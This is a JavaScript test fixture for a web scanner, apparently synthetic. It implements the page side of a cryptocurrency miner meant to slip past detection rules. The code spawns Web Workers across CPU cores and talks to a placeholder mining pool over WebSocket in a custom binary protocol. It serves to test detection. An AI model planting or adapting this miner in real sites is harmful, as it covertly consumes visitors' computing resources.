// webscan fixture (synthetic, written for webscan): the page half of a SHA-256d miner that no
// rule names. `hdrMine(login)` starts one worker per core (/lib/hdr-worker.js, the nonce loop
// over /wasm/hdr.wasm) and speaks the binary `bin` pool protocol ({{POOL}}/pool/bin): hello
// 0x10|len|login, job 0x21|id|target|header[80], share 0x32|id|nonce|hash[32]. Used by
// miner/binary-pool.html at once and by the miners that hide from crawlers when they choose.
function hdrMine(login) {
  var n = Math.max(1, Math.min(navigator.hardwareConcurrency || 2, 4)), workers = [];
  var ws = new WebSocket("{{POOL}}/pool/bin");
  ws.binaryType = "arraybuffer";
  ws.onopen = function () {
    var who = new TextEncoder().encode(login);
    var m = new Uint8Array(2 + who.length);
    m[0] = 0x10; m[1] = who.length; m.set(who, 2);
    ws.send(m);
  };
  ws.onmessage = function (e) {
    var b = new Uint8Array(e.data);
    if (b[0] !== 0x21 || b.length < 89) return;
    var dv = new DataView(e.data), id = dv.getUint32(1, true), target = dv.getUint32(5, true);
    var header = b.slice(9, 89);
    workers.forEach(function (w, i) { w.postMessage({ id: id, target: target, header: header, first: i, stride: n }); });
  };
  function share(e) {
    var s = e.data, m = new Uint8Array(41), dv = new DataView(m.buffer);
    m[0] = 0x32; dv.setUint32(1, s.id, true); dv.setUint32(5, s.nonce, true); m.set(s.hash, 9);
    if (ws.readyState === 1) ws.send(m);
  }
  for (var i = 0; i < n; i++) {
    var w = new Worker("/lib/hdr-worker.js");
    w.onmessage = share;
    workers.push(w);
  }
}
